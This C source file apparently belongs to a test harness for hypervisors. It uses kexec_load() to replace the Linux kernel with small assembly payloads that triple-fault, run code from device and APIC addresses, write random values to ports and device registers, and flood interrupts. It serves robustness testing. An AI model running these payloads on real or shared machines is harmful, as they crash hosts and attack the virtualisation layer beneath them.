/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Code in place of the kernel: kexec_load() takes the kernel's memory, processor and page tables, and starts ours in
 * 64-bit ring 0. It never comes back.
 */
#include "root.h"

#include <linux/kexec.h>
#include <linux/reboot.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define GROUP "own kernel"
#define CODE  0x1000000ull /* where the segment goes: code, page tables, stack */
#define PML4  (CODE + PAGE)
#define PDPT  (CODE + 2 * PAGE)
#define PD    (CODE + 3 * PAGE) /* four pages: 4 GiB in pages of 2 MiB */
#define PAGES 8u

/*
 * Each begins with interrupts off, all of the low 4 GiB mapped one to one, a stack, and its argument in rsi. What needs
 * a random number has xorshift on rbx.
 */
#define PROLOGUE                                                                                                       \
    "cli\n"                                                                                                            \
    "mov $0x1001000, %rax\n"                                                                                           \
    "mov %rax, %cr3\n"                                                                                                 \
    "mov $0x1008000, %rsp\n"                                                                                           \
    "mov $0x9e3779b97f4a7c15, %rbx\n"
#define RANDOM                                                                                                         \
    "mov %rbx, %rax\nshl $13, %rax\nxor %rax, %rbx\nmov %rbx, %rax\nshr $7, %rax\nxor %rax, %rbx\nmov %rbx, %rax\n"    \
    "shl $17, %rax\nxor %rax, %rbx\n"
#define PAYLOAD(name, code)                                                                                            \
    extern const char payload_##name[], payload_##name##_end[];                                                        \
    __asm__(".pushsection .rodata\n.globl payload_" #name "\npayload_" #name ":\n" PROLOGUE code                       \
            "\n.globl payload_" #name "_end\npayload_" #name "_end:\n.popsection\n")

PAYLOAD(spin, "1: pause\njmp 1b");
PAYLOAD(halt, "1: hlt\njmp 1b");
PAYLOAD(triple_fault, "lea 2f(%rip), %rax\nlidt (%rax)\nud2\n2: .quad 0, 0");
/* The stack becomes a device's register, so that an exception itself is an access to it. */
PAYLOAD(stack_in_registers,
        "mov $0xc0001800, %rsp\nlea 2f(%rip), %rax\nlidt (%rax)\nmov %rsp, %rax\npush %rax\nint $3\n"
        "2: .word 4095\n.quad 0x1003000");
PAYLOAD(code_in_registers, "mov $0xc0001000, %rax\njmp *%rax");
PAYLOAD(code_in_apic, "mov $0xfee00000, %rax\njmp *%rax");
PAYLOAD(code_nowhere, "mov $0xd0000000, %rax\njmp *%rax");
PAYLOAD(serial, "mov $0x3f8, %dx\n1: mov $0x41, %al\nout %al, %dx\njmp 1b");
PAYLOAD(serial_strings, "cld\nmov $0x3f8, %dx\n1: mov $0x1000000, %rsi\nmov $0x8000, %rcx\nrep outsb\njmp 1b");
PAYLOAD(ports,
        "1:" RANDOM "mov %ebx, %edx\nmov %rbx, %rax\nshr $24, %rax\ncmp $0x64, %dx\nje 1b\ncmp $0x92, %dx\nje 1b\n"
        "cmp $0x604, %dx\nje 1b\nout %al, %dx\nin %dx, %al\nout %eax, %dx\nin %dx, %eax\njmp 1b");
/* All device registers and holes between RAM and 4 GiB. */
PAYLOAD(registers,
        "1:" RANDOM "mov %rbx, %rdi\nand $0x3ffffffc, %edi\nor $0xc0000000, %edi\nmov %rbx, %rax\nshr $32, %rax\n"
        "mov %eax, (%rdi)\nmov (%rdi), %ecx\nmov %ebx, %edi\nand $0x1ffc, %edi\nadd $0xc0001000, %edi\n"
        "mov %eax, (%rdi)\nmov %ebx, %edi\nand $0x1ffc, %edi\nadd $0xfeb02000, %edi\nmov %eax, (%rdi)\njmp 1b");
PAYLOAD(kicks, "1: mov $0xc0001050, %edi\nmov $16, %ecx\n2: movl $0, (%rdi)\nadd $0x1000, %edi\nloop 2b\n"
               "mov $0xfeb00050, %edi\nmov $24, %ecx\n3: movl $0, (%rdi)\nadd $0x200, %edi\nloop 3b\njmp 1b");
PAYLOAD(interrupts,
        "mov $0xfee00300, %edi\n1: movl $0xc4600, (%rdi)\nmovl $0xc4500, (%rdi)\nmovl $0x000c0400, (%rdi)\njmp 1b");

struct kernel {
    const char *name;
    const char *start, *end;
};
#define KERNEL(name)                                                                                                   \
    {                                                                                                                  \
        "kernel-" #name, payload_##name, payload_##name##_end                                                          \
    }

/* Tables that map the low 4 GiB one to one, writable and executable. */
static void map_all(uint8_t *segment)
{
    uint64_t *pml4 = (uint64_t *)(segment + PAGE), *pdpt = (uint64_t *)(segment + 2 * PAGE);
    uint64_t *pd = (uint64_t *)(segment + 3 * PAGE);

    pml4[0] = PDPT | 3;
    for (uint64_t i = 0; i < 4; i++)
        pdpt[i] = (PD + i * PAGE) | 3;
    for (uint64_t i = 0; i < 2048; i++)
        pd[i] = i << 21 | 0x83;
}

bool attack_kernel(const char *name)
{
    const struct kernel kernels[] = {KERNEL(spin), KERNEL(halt), KERNEL(triple_fault), KERNEL(stack_in_registers),
            KERNEL(code_in_registers), KERNEL(code_in_apic), KERNEL(code_nowhere), KERNEL(serial),
            KERNEL(serial_strings), KERNEL(ports), KERNEL(registers), KERNEL(kicks), KERNEL(interrupts)};
    static uint8_t segment[PAGES * PAGE] __attribute__((aligned(4096)));
    struct kexec_segment s = {.buf = segment, .bufsz = sizeof(segment), .mem = (void *)CODE, .memsz = sizeof(segment)};

    for (size_t i = 0; i < ARRAY_SIZE(kernels); i++) {
        if (strcmp(kernels[i].name, name) != 0)
            continue;
        memcpy(segment, kernels[i].start, (size_t)(kernels[i].end - kernels[i].start));
        map_all(segment);
        if (syscall(SYS_kexec_load, CODE, 1ul, &s, KEXEC_ARCH_X86_64) < 0)
            fail("the kernel refuses kexec_load()");
        if (!try(GROUP, "%s", name))
            return true;
        syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_KEXEC, NULL);
        fail("the kernel refuses to start another one");
    }
    return false;
}
